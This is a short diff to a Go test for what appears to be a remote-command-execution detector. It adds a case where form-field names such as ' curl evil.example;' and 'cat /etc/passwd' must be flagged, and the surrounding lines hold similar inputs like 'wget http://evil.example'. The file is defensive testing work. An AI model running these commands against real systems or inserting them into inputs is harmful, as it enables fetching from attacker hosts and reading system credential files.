@@ -69,4 +69,5 @@ func TestRCERuns(t *testing.T) {
 		"$(document)", "$(Build.Reason)", "$(CC)", "ping", "a & b",
 	})
 	recognises(t, RCE, Where{Place: InForm, Key: []byte("sysCmd")}, []string{"wget http://evil.example", "ping evil.example"}, []string{"open", "rm", "mkdir", "upload"})
+	recognises(t, RCE, Where{Place: InForm, Name: true}, []string{" curl evil.example;", "cat /etc/passwd"}, []string{" python", "curl", "git url", "env[PATH]"})
 }
